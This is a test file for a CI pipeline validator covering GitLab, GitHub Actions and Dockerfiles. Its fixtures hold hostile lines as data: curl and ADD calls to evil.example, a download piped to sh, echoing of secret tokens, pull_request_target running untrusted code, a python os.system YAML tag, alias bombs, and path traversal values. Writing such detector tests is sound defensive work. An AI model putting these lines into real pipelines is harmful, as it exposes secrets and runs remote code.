// Each check finds what is wrong in pipelines that are otherwise right, at its line, with the real schemas and linters.
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { array, assert, asyncProperty, constantFrom, nat, tuple } from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expressionsIn } from '../../pipelines/validate/expressions.ts';
import type { ValidationOptions } from '../../pipelines/validate/options.ts';
import { runChecker } from '../../pipelines/validate/program.ts';
import { hasPython } from '../harness/python-tools.ts';
import { bashAlone, changed, DOCKERFILE, GITHUB, GITLAB, lines, OPTIONS, validated, WORKFLOW } from './validate-files.ts';

const python = await hasPython();
const folder = await mkdtemp(join(tmpdir(), 'pivo-validate-bash-'));
const bash = await bashAlone(folder);
afterAll(() => rm(folder, { recursive: true, force: true }));
const gitlab = async (text: string): Promise<string[]> => lines(await validated({ '.gitlab-ci.yml': text }));
/** Checks that need no program of others. */
const NO_TOOLS = { cache: '/nonexistent', env: { PATH: '/nonexistent' } };
/** Files that know nothing of each other are validated at once: the problems of each. */
async function together(files: readonly string[], pathOf: (at: number) => string): Promise<string[][]> {
  const problems = await validated({ [WORKFLOW]: GITHUB, ...Object.fromEntries(files.map((text, at) => [pathOf(at), text])) });
  return files.map((_, at) => lines(problems.filter(({ path }) => path === pathOf(at))));
}
/** The line of the first place of a text in a file. */
const lineOf = (file: string, text: string): number => file.slice(0, file.indexOf(text)).split('\n').length;

describe.skipIf(!python)('a pipeline that is right', () => {
  it.each([['of GitLab', { '.gitlab-ci.yml': GITLAB, Dockerfile: DOCKERFILE }], ['of GitHub', { [WORKFLOW]: GITHUB, Dockerfile: DOCKERFILE }]])('%s has no problem', async (_, files) => {
    expect(await validated(files)).toEqual([]);
  });

  it('may spread over files that it includes', async () => {
    const more = 'lint:\n  stage: build\n  extends: .cache\n  script: [npm run lint]\n';
    expect(await validated({ '.gitlab-ci.yml': `include:\n  - local: /.gitlab/ci/lint.yml\n${GITLAB}`, '.gitlab/ci/lint.yml': more })).toEqual([]);
  });
});

describe.skipIf(!python)('GitLab', () => {
  it.each<[string, string, string, RegExp, string?]>([
    ['a misspelt key', '  script:\n    - npm ci', '  scrpt:\n    - npm ci', /^schema error 18 test: Additional properties are not allowed \('scrpt'/],
    ['a value of the wrong kind', 'when: manual', 'when: sometimes', /^schema error \d+ stop\.when: 'sometimes' is not one of/, 'when: manual'],
    ['a stage that is dropped', 'stages: [test, build, deploy]', 'stages: [test, deploy]', /^references error \d+ job build is in the stage build, which stages does not name$/, 'stage: build'],
    ['a job that is needed and gone', 'needs: [test]', 'needs: [tests]', /^references error \d+ job build needs tests, which is no job that runs$/, 'needs: [test]'],
    ['a need of a later stage', 'needs: [test]', 'needs: [deploy]', /^references error \d+ job build needs deploy, which is in a later stage$/, 'needs: [test]'],
    ['a need of a template', 'needs: [test]', 'needs: [.cache]', /^references error \d+ job build needs \.cache, which is no job that runs$/, 'needs: [test]'],
    ['a base that is gone', 'extends: .cache', 'extends: .cached', /^references error \d+ job test extends \.cached, which is no job$/, 'extends: .cache'],
    ['a base of itself', '.cache:\n', '.cache:\n  extends: test\n', /^references error \d+ jobs go round in a circle by extends: \.cache → test → \.cache$/, '.cache:'],
    ['a circle of needs', '  stage: test\n', '  stage: test\n  needs: [build]\n', /^references error \d+ jobs go round in a circle by needs: test → build → test$/, 'test:\n  extends'],
    ['a need of itself', 'needs: [test]', 'needs: [build]', /^references error \d+ job build needs itself$/, 'needs: [test]'],
    ['a dependency without artifacts', '  artifacts:\n    paths: [out]\n', '', /^references warning \d+ job deploy takes the artifacts of test, which has none$/],
    ['a dependency that is gone', 'dependencies: [test]', 'dependencies: [tset]', /^references error \d+ job deploy depends on tset/, 'dependencies: [test]'],
    ['a reference to nothing', '[test, script]', '[test, scripts]', /^references error \d+ !reference \[test, scripts\] names what is not there$/, '!reference'],
    ['an environment that nothing stops', 'on_stop: stop', 'on_stop: end', /^references error \d+ job deploy is stopped by end, which is no job$/, 'on_stop'],
    ['a variable that nothing sets', '- npm test', '- npm test -- --shard "$SHARD_NUMBER"', /^references warning 20 job test uses SHARD_NUMBER/],
    ['a script that is gone', "  script: [!reference [test, script], ./stop.sh]\n", '', /^references error \d+ job stop has neither script nor trigger$/, 'stop:\n  stage'],
    ['an image without a tag', 'node:22.11.0-alpine', 'node', /^images error 3 .*the image node has no tag/],
    ['latest', 'docker:27.3.1', 'docker:latest', /^images error \d+ job build: the image docker:latest is a new one every time/, 'image: docker'],
    ['a tag that moves', 'docker:27.3.1', 'docker:dind', /^images error \d+ job build: the image docker:dind has a tag that moves/, 'image: docker'],
    ['a service of a major version', 'postgres:16.4', 'postgres:16', /^images warning \d+ job test: the image postgres:16 moves/, 'name: postgres'],
    ['an image of another registry', 'alpine:3.20.3', 'evil.example/alpine:3.20.3', /^images error \d+ job deploy: the image evil\.example\/alpine:3\.20\.3 comes from evil\.example/, 'alpine:3.20.3'],
    ['an image by a variable', 'node:22.11.0-alpine', 'node:$NODE_ENV', /^images error 3 .*the image node:test has a tag that moves/],
    ['a shell that is not closed', '      fi\n', '', /^shell error \d+ job build: bash cannot read it: syntax error/],
    ['a quote that is not closed', '- npm test', '- npm test "', /^shell error 20 job test: bash cannot read it: unexpected EOF/],
    ['a token that is printed', '- npm test', '- echo "$DEPLOY_TOKEN"', /^secrets error 20 job test prints the secret variable DEPLOY_TOKEN$/],
    ['a token in the file', 'NODE_ENV: test', 'NPM_TOKEN: abcdefabcdef', /^secrets error 5 NPM_TOKEN has its value in the file/],
    ['a debug switch', 'NODE_ENV: test', 'CI_DEBUG_TRACE: "true"', /^secrets error 5 CI_DEBUG_TRACE prints every variable/],
    ['a host that nobody named', '- npm test', '- curl --fail https://evil.example/x -o x', /^secrets error 20 job test speaks to evil\.example/],
    ['a key twice', 'variables:\n  NODE_ENV: test', 'variables:\n  NODE_ENV: test\n  NODE_ENV: live', /^schema error 6 has the key NODE_ENV twice/],
  ])('%s is found', async (_, from, to, said, at) => {
    const found = said.source.startsWith('^schema') ? await gitlab(changed(GITLAB, from, to)) : lines(await validated({ '.gitlab-ci.yml': changed(GITLAB, from, to) }, { tools: bash }));
    expect(found).toContainEqual(expect.stringMatching(said));
    if (at !== undefined) expect(found.filter((each) => said.test(each)).map((each) => Number(each.split(' ')[2]))).toEqual([lineOf(changed(GITLAB, from, to), at === from ? to : at)]);
  });

  it('where an include may have a job, its absence is a warning', async () => {
    const found = await gitlab(`include:\n  - component: gitlab.example/group/lint@1.0.0\n${changed(GITLAB, 'needs: [test]', 'needs: [lint]')}`);
    expect(found).toEqual([expect.stringMatching(/^secrets warning 2 includes gitlab\.example\/group\/lint@1\.0\.0/), expect.stringMatching(/^references warning \d+ job build needs lint/)]);
  });

  it("asks the forge's own lint where there is one, and says so when it did not answer", async () => {
    const files = { '.gitlab-ci.yml': GITLAB };
    const forge = async (forgeLint: ValidationOptions['forgeLint']): Promise<string[]> => lines((await validated(files, { tools: bash, forgeLint })).filter(({ check }) => check === 'forge'));
    expect(await forge(async () => [{ check: 'schema', severity: 'error', path: 'x', line: null, message: 'jobs:test unknown keys' }])).toEqual(['forge error null jobs:test unknown keys']);
    expect(await forge(async () => Promise.reject(new Error('503')))).toEqual([expect.stringMatching(/^forge warning null was not checked by GitLab's own lint: 503/)]);
    expect(await forge(async () => null)).toEqual([]);
  });
});

describe.skipIf(!python)('GitHub', () => {
  const cases: [string, string, string, RegExp][] = [
    ['a misspelt key of a step', '- run: npm publish', '- rn: npm publish', /^schema error 39 .*'rn' was/],
    ['a misspelt event', 'push: {branches', 'pusch: {branches', /^schema error 3 on: .*pusch/],
    ['no runner', '    runs-on: ubuntu-24.04\n    env', '    env', /^schema error 32 jobs\.publish: /],
    ['a need that is gone', 'needs: [test]', 'needs: [tests]', /^references error 32 job publish needs tests, which is no job$/],
    ['an output that is gone', 'outputs:\n      version:', 'outputs:\n      versions:', /^references error 40 job publish: needs\.test\.outputs\.version: job test has no output version$/],
    ['a need that is not said', '    needs: [test]\n', '', /^references error 39 job publish: needs\.test\.outputs\.version: test is not among/],
    ['a step that is gone', '- id: version', '- id: versions', /^references error 15 job test: steps\.version\.outputs\.value: no step/],
    ['a matrix value that is gone', 'node: [20.18.0', 'nodes: [20.18.0', /^references error 23 job test: matrix\.node: /],
    ['an input that is gone', 'level: {type', 'levels: {type', /^references error 26 job test: inputs\.level: /],
    ['an artifact that nobody uploads', 'name: out, path', 'name: outs, path', /^references error 38 job publish downloads the artifact out, which no job uploads$/],
    ['a variable of env that nothing sets', 'run: npm publish', 'run: npm publish --tag "${{ env.TAG }}"', /^references error 39 job publish: env\.TAG: no env sets it$/],
    ['an action by its branch', 'checkout@v4.2.2', 'checkout@main', /^images error 21 job test: the action actions\/checkout@main can change/],
    ['an action by a tag that moves', 'checkout@v4.2.2', 'checkout@v4', /^images error 21 .*can change/],
    ['an action without a version', 'checkout@v4.2.2', 'checkout', /^images error 21 .*has no version/],
    ['a short commit id', '39370e3970a6d050c480ffad4ff0ed4d3fdee5af', '39370e3', /^images error 22 .*can change/],
    ['a runner that moves', 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-latest', /^images warning 10 job test: runs on ubuntu-latest/],
    ['a service without a tag', 'postgres:16.4', 'postgres', /^images error 18 job test: the image postgres has no tag/],
    ['a loop that is not closed', '          npm ci', '          for each in a b; do npm ci', /^shell error \d+ step 3 of job test: bash cannot read it: syntax error/],
    ['a shell that bash is not', '      - run: npm publish', '      - shell: pwsh\n        run: npm publish', /^shell warning \d+ step 2 of job publish is run by pwsh, which is not checked/],
    ['a secret that is printed', 'run: npm publish', 'run: echo "$NODE_AUTH_TOKEN"', /^secrets error 39 step 2 of job publish prints the secret variable NODE_AUTH_TOKEN$/],
    ['a secret put in and printed', 'run: npm publish', "run: echo '${{ secrets.NPM_TOKEN }}' | rev", /^secrets error 39 step 2 of job publish prints a secret$/],
    ['all secrets', 'run: npm publish', "run: echo '${{ toJSON(secrets) }}'", /^secrets error 39 .*prints a secret$/],
    ['a secret in a summary', 'run: npm publish', 'run: echo "$NODE_AUTH_TOKEN" >> "$GITHUB_STEP_SUMMARY"', /^secrets error 39 .*prints/],
    ['what a stranger wrote', 'run: npm publish', 'run: echo "${{ github.event.pull_request.title }}"', /^secrets error 39 .*what a stranger wrote/],
    ['a secret in code of an action', '      - run: npm publish', '      - uses: actions/github-script@v7.0.1\n        with: {script: "core.info(`${{ secrets.NPM_TOKEN }}`)"}', /^secrets error 40 job publish puts a secret into code/],
    ['a secret for an action of somebody', '      - run: npm publish', '      - uses: somebody/publish@v1.2.3\n        with: {token: "${{ secrets.NPM_TOKEN }}"}', /^secrets warning 40 job publish gives a secret to somebody\/publish@v1\.2\.3/],
    ['a workflow of somebody', 'jobs:\n', 'jobs:\n  other: {uses: somebody/flows/.github/workflows/x.yml@v1.2.3, secrets: inherit}\n', /^secrets warning 9 job other is somebody\/flows.*, whose jobs are not checked here, and which gets secrets$/],
    ['every right', 'permissions: {contents: read}', 'permissions: write-all', /^secrets warning 7 gives its token every right/],
  ];
  const strangers = changed(changed(GITHUB, '  push: {branches: [main]}\n', '  pull_request_target:\n'), 'checkout@v4.2.2', 'checkout@v4.2.2\n        with: {ref: "${{ github.event.pull_request.head.sha }}"}');
  let found: string[][] = [];
  beforeAll(async () => {
    found = await together([...cases.map(([, from, to]) => changed(GITHUB, from, to)), strangers], (at) => `.github/workflows/${at}.yml`);
  });

  it.each(cases.map(([name, , , said], at) => [name, said, at] as const))('%s is found', (_, said, at) => {
    expect(found[at]).toContainEqual(expect.stringMatching(said));
  });

  it('the code of strangers with secrets is found', () => {
    expect(found.at(-1)).toContainEqual(expect.stringMatching(/^secrets error 22 job test runs the code of strangers/));
  });
});

it('an expression ends behind its texts in quotes, and a text of beginnings is read in no time', () => {
  expect(expressionsIn("a ${{ '${{' }} github.token }} ${{ format('}} it''s {0}', github.sha) }} b")).toEqual(["'${{'", "format('}} it''s {0}', github.sha)"]);
  expect(expressionsIn("${{'".repeat(100_000))).toEqual([]);
  expect(expressionsIn('${{ '.repeat(100_000))).toEqual([]);
});

describe.skipIf(!python)('a Dockerfile', () => {
  const cases: [string, string, string, RegExp][] = [
    ['a word that is no instruction', 'USER node', 'USR node', /^dockerfile error \d+ DL1000: /],
    ['no user', 'USER node\n', '', /^dockerfile warning 8 what it makes runs as root/],
    ['root', 'USER node', 'USER root', /^dockerfile warning 10 .*(?:root|DL3002)/],
    ['a base that moves', 'NODE=22.11.0-alpine', 'NODE=latest', /^images error 2 FROM: the image node:latest/],
    ['a relative folder', 'WORKDIR /app', 'WORKDIR app', /^dockerfile error 3 DL3000: /],
    ['a command as text', 'CMD ["node", "/srv/main.js"]', 'CMD node /srv/main.js', /^dockerfile warning 11 DL3025: /],
    ['a stage of another image', '--from=build', '--from=evil.example/x:1.0.0', /^images error 9 COPY --from: .*evil\.example/],
    ['a secret as ARG', 'WORKDIR /app', 'WORKDIR /app\nARG NPM_TOKEN', /^secrets error 4 ARG NPM_TOKEN stays in the history/],
    ['a secret as ENV', 'WORKDIR /app', 'WORKDIR /app\nENV API_KEY=abcd1234', /^secrets error 4 ENV API_KEY stays in the image/],
    ['a download that is run', 'RUN npm ci', 'RUN curl -fsSL https://known.example/x.sh | sh && npm ci', /^secrets error 5 RUN runs with sh what it has just downloaded/],
    ['a host of ADD', 'COPY . .', 'ADD https://evil.example/a.tgz /a', /^secrets error 4 ADD speaks to evil\.example/],
  ];
  let found: string[][] = [];
  beforeAll(async () => {
    found = await together(cases.map(([, from, to]) => changed(DOCKERFILE, from, to)), (at) => `${at}/Dockerfile`);
  });

  it.each(cases.map(([name, , , said], at) => [name, said, at] as const))('with %s is found', (_, said, at) => {
    expect(found[at]).toContainEqual(expect.stringMatching(said));
  });
});

describe('where the tools cannot be had', () => {
  let cache = '';
  beforeAll(async () => {
    cache = await mkdtemp(join(tmpdir(), 'pivo-validate-cache-'));
  });
  afterAll(() => rm(cache, { recursive: true, force: true }));

  it('each check that did not run is a warning with what to do; the others run', async () => {
    await writeFile(join(cache, 'pip.conf'), '');
    const env = { PATH: process.env['PATH'], HOME: cache, PIP_CONFIG_FILE: join(cache, 'pip.conf'), PIP_INDEX_URL: 'http://127.0.0.1:9/simple', PIP_RETRIES: '0' };
    const found = lines(await validated({ '.gitlab-ci.yml': changed(GITLAB, 'needs: [test]', 'needs: [tests]'), Dockerfile: DOCKERFILE }, { tools: { cache, env } }));
    expect(found).toEqual([
      expect.stringMatching(/^schema warning null was not checked by the schema of GitLab: python3 .*Is the registry reachable/),
      expect.stringMatching(/^references error/),
      expect.stringMatching(/^dockerfile warning null was not checked by hadolint: python3/),
    ]);
  });

  it('a machine without any program says so for each', async () => {
    const found = lines(await validated({ '.gitlab-ci.yml': GITLAB }, { tools: { cache, env: { PATH: cache } } }));
    expect(found).toEqual([expect.stringMatching(/^schema warning null .*python3 was not found\. Install it/), expect.stringMatching(/^shell warning null .*install bash/)]);
  });
});

describe('a checking program', () => {
  const order = { cwd: tmpdir(), path: process.env['PATH'] ?? '', signal: new AbortController().signal };

  it('is ended with its children when the check is told to stop', async () => {
    const stop = new AbortController();
    const folder = await mkdtemp(join(tmpdir(), 'pivo-validate-child-'));
    try {
      const ended = runChecker({ ...order, file: 'bash', args: ['-c', 'sleep 300 & echo $! > child; wait'], cwd: folder, signal: stop.signal });
      await expect.poll(() => readFile(join(folder, 'child'), 'utf8').catch(() => '')).toMatch(/^\d+\n$/);
      const child = Number(await readFile(join(folder, 'child'), 'utf8'));
      stop.abort(new Error('enough'));
      await expect(ended).rejects.toThrow('enough');
      await expect.poll(() => readFile(`/proc/${child}/stat`, 'utf8').then((stat) => stat.split(' ')[2] === 'Z', () => true)).toBe(true);
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  });

  it('that says more than anybody can read is ended', async () => {
    await expect(runChecker({ ...order, file: 'yes', args: [] })).rejects.toThrow(/said more than/);
  });

  it('gets no variable of this process but PATH', async () => {
    const { stdout } = await runChecker({ ...order, file: 'env', args: [] });
    expect(stdout.trim().split('\n').map((line) => line.split('=')[0]).toSorted()).toEqual(['HOME', 'LC_ALL', 'PATH', 'PYTHONDONTWRITEBYTECODE', 'TMPDIR']);
  });
});

describe.skipIf(!python)('hostile files', () => {
  const bomb = `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 9 }, (_, at) => `${'bcdefghij'[at]}: &${'bcdefghij'[at]} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[at]}`).join(', ')}]`).join('\n')}\n`;

  it.each<[string, string, RegExp]>([
    ['aliases that grow', bomb, /^schema error \d+ has more than 50000 values/],
    ['an alias inside its anchor', 'a: &a\n  b: *a\n', /^schema error \d+ has the alias \*a inside its own anchor/],
    ['an alias without an anchor', 'a: *a\n', /alias/],
    ['a tag of JavaScript', "a:\n  script: [!!js/function 'x']\n", /^schema error 2 has the tag tag:yaml\.org,2002:js\/function/],
    ['a tag of Python', 'a: !!python/object/apply:os.system [x]\n', /^schema error 1 has the tag/],
    ['bytes', 'a: \u0000\u0001\u0002\n', /^schema error 1 is no text/],
    ['no map', '- a\n', /^schema error 1 is no map/],
    ['nothing', '', /^schema error 1 is no map/],
    ['no YAML', 'a: [\nb: }\n', /^schema error \d+ is not YAML/],
    ['brackets in brackets', '['.repeat(5000), /^schema error null is nested more deeply/],
    ['several documents', 'a: 1\n---\nb: 1\n', /^schema error 3 has several documents/],
    ['a job of half a megabyte', `a:\n  script:\n    - "${'$('.repeat(250_000)}"\n`, /cannot be followed|is longer|nested/],
    ['many keys', Array.from({ length: 40_000 }, (_, at) => `k${at}: 1`).join('\n'), /^schema error \d+/],
    ['many here-documents', `a:\n  script:\n    - |\n      ${'<<A '.repeat(20_000)}\n`, /^secrets error \d+ job a cannot be followed/],
    ['the names of JavaScript', '__proto__:\n  script: [a]\nconstructor:\n  script: [b]\n  needs: [toString]\n', /^references error \d+ job constructor needs toString/],
  ])('%s are a problem and no crash', async (_, text, said) => {
    expect(lines(await validated({ '.gitlab-ci.yml': text }, { tools: NO_TOOLS }))).toContainEqual(expect.stringMatching(said));
    expect((await validated({ [WORKFLOW]: text }, { tools: NO_TOOLS })).length).toBeGreaterThan(0);
  });

  it.each(['a\nb/Dockerfile', '../Dockerfile', '/etc/Dockerfile', '.git/hooks/x.sh', 'a//b', './a', 'a\\b'])('the path %j is a problem in one line', async (path) => {
    const found = await validated({ '.gitlab-ci.yml': GITLAB, [path]: DOCKERFILE }, { tools: NO_TOOLS });
    expect(found).toContainEqual(expect.objectContaining({ check: 'schema', severity: 'error', message: 'is no path of a file in a repository' }));
    expect(found.some(({ path, message }) => /[\n\r]/.test(path + message))).toBe(false);
  });

  it('a job whose name is two lines is told in one', async () => {
    expect(await gitlab('"a\\nb":\n  stage: none\n  script: [x]\n')).toEqual(['references error 2 job a?b is in the stage none, which stages does not name']);
  });

  it('a bomb of aliases costs no memory, and merged maps neither', async () => {
    const merged = `a: &a {${Array.from({ length: 5000 }, (_, at) => `k${at}: 1`).join(', ')}}\n${Array.from({ length: 2000 }, (_, at) => `m${at}: {<<: *a}`).join('\n')}\n`;
    expect(await gitlab(merged)).toContainEqual(expect.stringMatching(/more than 50000 values/));
  });

  it('the real schema gets through the largest that is read', async () => {
    expect((await gitlab(Array.from({ length: 10_000 }, (_, at) => `k${at}: {script: [a]}`).join('\n'))).length).toBeGreaterThan(0);
  });

  it('whatever line is missing, doubled or indented, the files give problems and no crash', async () => {
    const texts = constantFrom<[string, string]>(['.gitlab-ci.yml', GITLAB], [WORKFLOW, GITHUB], ['Dockerfile', DOCKERFILE]);
    const change = constantFrom<(line: string) => string[]>(() => [], (line) => [line, line], (line) => [`  ${line}`], (line) => [line.trim()], (line) => [line.replace(/\w+/, '&a *a')], (line) => [`${line} '"`]);
    await assert(asyncProperty(texts, array(tuple(nat(60), change), { minLength: 1, maxLength: 4 }), async ([path, text], changes) => {
      const wrong = changes.reduce<string[]>((all, [at, change]) => all.flatMap((line, index) => (index === at ? change(line) : [line])), text.split('\n')).join('\n');
      expect(Array.isArray(await validated({ [path]: wrong }, { tools: NO_TOOLS }))).toBe(true);
    }), { numRuns: 150 });
  });

  it('an abort ends the checks with its reason and leaves no folder', async () => {
    const before = (await readdir(tmpdir())).filter((name) => name.startsWith('pivo-validate-')).length;
    await expect(validated({ '.gitlab-ci.yml': GITLAB }, { signal: AbortSignal.abort(new Error('enough')) })).rejects.toThrow('enough');
    expect((await readdir(tmpdir())).filter((name) => name.startsWith('pivo-validate-')).length).toBeLessThanOrEqual(before);
    expect(OPTIONS.signal).toBeUndefined();
  });

  it('a proposal without a pipeline is none', async () => {
    expect(lines(await validated({ 'a.txt': 'a' }))).toEqual(['schema error null a pipeline of GitHub needs a workflow in this folder, and the proposal has none']);
  });
});
